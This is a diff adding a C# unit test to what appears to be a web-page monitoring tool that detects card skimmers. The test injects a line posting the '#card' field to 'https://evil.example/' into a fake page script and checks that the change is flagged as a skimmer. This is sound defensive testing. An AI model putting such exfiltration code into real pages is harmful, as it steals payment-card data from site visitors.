@@ -169,6 +169,30 @@ public sealed class PageCompareTests : IAsyncLifetime
         (await FoldAsync(5, MadeLooks.Inline("a1", "load('/uploads/a.js')"))).ShouldHaveSingleItem().Class.ShouldBe(PageClass.ChangedScript);
     }
 
+    [Fact]
+    public async Task Script_ThatTurns_TellsFirstWhatCameIn()
+    {
+        const string Before = "watch('#total');\nread('#card');\n", Added = "post('https://evil.example/', card);\n";
+        var old = new EvidenceReport("skimmer", 2, 1, "It reads #card.", "read('#card')", 0.7);
+        await FoldAsync(0, MadeLooks.Script(Own, Before), MadeLooks.Script(Cdn, Before));
+
+        // The new lines stand in the middle: what follows them only moved.
+        PageFinding[] findings = [.. await FoldAsync(1, Turned(Own, Severity.Critical), Turned(Cdn, Severity.Low))];
+
+        findings.Select(finding => finding.Class).ShouldBe([PageClass.Skimmer, PageClass.ChangedScript], ignoreOrder: true);
+        PageFinding hostile = findings.Single(finding => finding.Class == PageClass.Skimmer);
+        hostile.Reasons.Select(reason => reason.Where).ShouldBe(["line 2, column 1, in lines that came with this version", "line 3, column 1"]);
+        hostile.Sentence.ShouldBe("It sends #card; It reads #card.");
+        findings.Single(finding => finding.Class == PageClass.ChangedScript).Reasons.ShouldHaveSingleItem().Where.ShouldEndWith("in lines that came with this version");
+        (await _store.Alerts.ListAsync(new AlertFilter { IsOfPages = true }, Cancel)).ShouldAllBe(alert => alert.Evidence!.Contains("in lines that came with this version"));
+
+        LookItem Turned(string name, Severity severity)
+        {
+            LookItem item = MadeLooks.Script(name, Before.Replace("read", $"{Added}read", StringComparison.Ordinal), severity);
+            return item with { Script = item.Script! with { Evidence = [old with { Line = 3 }, new EvidenceReport("skimmer", 2, 1, "It sends #card.", Added, 0.3)] } };
+        }
+    }
+
     /// <summary>A release that sees more of a page than the one before makes no alerts of what was always there, but of what is hostile.</summary>
     [Fact]
     public async Task Modules_OfAPageThatAnOlderReleaseLookedAt_AreNews_OnlyOnceTheyCameIn()
